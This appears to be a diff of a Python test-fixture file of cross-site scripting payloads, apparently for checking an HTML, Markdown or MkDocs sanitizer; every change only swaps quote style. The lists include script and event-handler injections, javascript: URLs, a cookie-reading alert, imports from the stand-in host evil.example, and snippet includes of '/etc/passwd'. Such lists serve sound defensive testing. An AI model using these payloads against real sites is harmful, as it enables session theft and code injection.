@@ -33,13 +33,13 @@ SCRIPT_TAGS = [
     "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
     "\u00abscript\u00bbalert(1)\u00ab/script\u00bb",
     "<script>document.write('<img src=x onerror=alert(1)>')</script>",
-    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
     '<script type="module">import("https://evil.example/m.js")</script>',
 ]
 
 EVENT_HANDLERS = [
     "<img src=x onerror=alert(1)>",
-    '<IMG SRC=# onmouseover="alert(\'xxs\')">',
+    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
     "<img src=x:alert(alt) onerror=eval(src) alt=0>",
     '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
     '<img """><SCRIPT>alert("XSS")</SCRIPT>">',
@@ -49,7 +49,7 @@ EVENT_HANDLERS = [
     "<svg onload=alert(1)>",
     "<svg/onload=alert(1)>",
     "<svg><script>alert(1)</script></svg>",
-    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
     "<body onload=alert(1)>",
     "<BODY ONLOAD=alert('XSS')>",
     "<details open ontoggle=alert(1)>",
@@ -83,11 +83,11 @@ URLS = [
     'vbscript:msgbox("XSS")',
     "livescript:alert(1)",
     "//evil.example/x.js",
-    "https://example.org/\"onmouseover=\"alert(1)",
+    'https://example.org/"onmouseover="alert(1)',
     "https://example.org/'onmouseover='alert(1)",
-    "https://example.org/a?x=\"><script>alert(1)</script>",
+    'https://example.org/a?x="><script>alert(1)</script>',
     "https://example.org/[a](onmouseover=alert(1)//)",
-    "https://example.org/`a`/\"onmouseover=alert(1)//",
+    'https://example.org/`a`/"onmouseover=alert(1)//',
     "https://example.org/<img src=x onerror=alert(1)>",
     "https://example.org/{: onclick=alert(1) }",
     "http://javascript:alert(1)@example.org/",
@@ -104,7 +104,7 @@ ATTRIBUTE_BREAKOUTS = [
     "` onmouseover=alert(1) `",
     '" autofocus onfocus=alert(1) x="',
     '"/><script>alert(1)</script>',
-    "\" style=\"background:url(javascript:alert(1))",
+    '" style="background:url(javascript:alert(1))',
     "&quot; onmouseover=&quot;alert(1)",
     "&#34; onmouseover=&#34;alert(1)",
 ]
@@ -123,8 +123,8 @@ STYLES = [
 
 EMBEDS = [
     '<iframe src="javascript:alert(1)"></iframe>',
-    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
-    "<IFRAME SRC=# onmouseover=\"alert(document.cookie)\"></IFRAME>",
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
     '<object data="javascript:alert(1)"></object>',
     '<object type="text/x-scriptlet" data="https://evil.example/x.html"></object>',
     '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
@@ -139,7 +139,7 @@ EMBEDS = [
     '<isindex action="javascript:alert(1)" type=submit>',
     '<a href="javascript:alert(1)">link</a>',
     '<A HREF="jav&#x09;ascript:alert(1)">link</A>',
-    '<template><script>alert(1)</script></template>',
+    "<template><script>alert(1)</script></template>",
 ]
 
 COMMENTS = [
@@ -149,7 +149,7 @@ COMMENTS = [
     "--><script>alert(1)</script>",
     "<!-- --!><script>alert(1)</script>",
     "<!--",
-    "<?xml version=\"1.0\"?><script>alert(1)</script>",
+    '<?xml version="1.0"?><script>alert(1)</script>',
     "<!DOCTYPE html><script>alert(1)</script>",
     "]]><script>alert(1)</script>",
 ]
@@ -159,7 +159,7 @@ MARKDOWN = [
     "[click]( javascript:alert(1) )",
     "[click](<javascript:alert(1)>)",
     "[click](javascript&#58;alert(1))",
-    "[click](JAVASCRIPT:alert(1) \"title\")",
+    '[click](JAVASCRIPT:alert(1) "title")',
     '[a](https://example.org "t\\" onmouseover=\\"alert(1)")',
     "![img](javascript:alert(1))",
     '![img](x" onerror="alert(1))',
@@ -211,12 +211,12 @@ JINJA = [
 MKDOCS = [
     '!!! danger "<script>alert(1)</script>"\n    <img src=x onerror=alert(1)>',
     '??? note "x"\n    [x](javascript:alert(1))',
-    "{: onclick=\"alert(1)\" }",
-    "{: #x .y onmouseover=\"alert(1)\" }",
+    '{: onclick="alert(1)" }',
+    '{: #x .y onmouseover="alert(1)" }',
     "text\n{: onclick=alert(1) }",
     '--8<-- "/etc/passwd"',
     '--8<-- "mkdocs.yml"',
-    ";--8<-- \"docs/about.md\"",
+    ';--8<-- "docs/about.md"',
     ":material-alert:",
     ":fontawesome-solid-bug:",
     ":smile:",
